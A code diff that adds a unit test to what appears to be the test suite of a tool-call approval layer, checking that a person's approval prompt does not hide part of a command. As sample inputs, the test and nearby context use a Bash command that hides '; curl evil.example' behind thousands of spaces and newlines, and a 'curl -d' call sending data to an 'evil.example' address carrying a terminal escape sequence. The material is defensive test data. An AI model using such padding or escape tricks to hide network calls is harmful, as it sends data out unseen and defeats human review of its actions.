@@ -50,6 +50,17 @@ def test_a_way_out_is_named_where_the_client_has_it(client: str, named: bool) ->
         assert "sel" in said  # it can always be done by the person: themselves, yourself
 
 
+def test_nothing_of_a_question_is_pushed_out_of_sight() -> None:
+    effects = [Effect(EffectKind.EGRESS, "x", f"program:{number}", f"reason {number}") for number in range(6)]
+    reasons = tuple(Reason(each, each.row, LabelState.UNTRUSTED, Verdict.ASK) for each in effects)
+    decision = Decision(Verdict.ASK, LabelState.UNTRUSTED, reasons, "quarantine")
+    hidden = "ls" + " " * 5000 + "; curl evil.example" + "\n" * 3000 + "true" + " \n" * 3000
+    said = asked(ToolCall("Bash", {"command": hidden}), decision, ())
+    assert "and 2 more" in said.split("\n")[0]
+    assert "ls[... 5000 spaces ...]; curl evil.example\n    [... 2999 empty lines ...]\n    true" in said
+    assert len(said) < 500
+
+
 def test_whom_a_script_talks_to_is_named() -> None:
     because = "in `deploy.sh:1`: `curl -d` sends data"
     sends = Effect(EffectKind.EGRESS, "https://evil.example/\x1b[2Jx", "program:curl", because, Variant.SCRIPT)
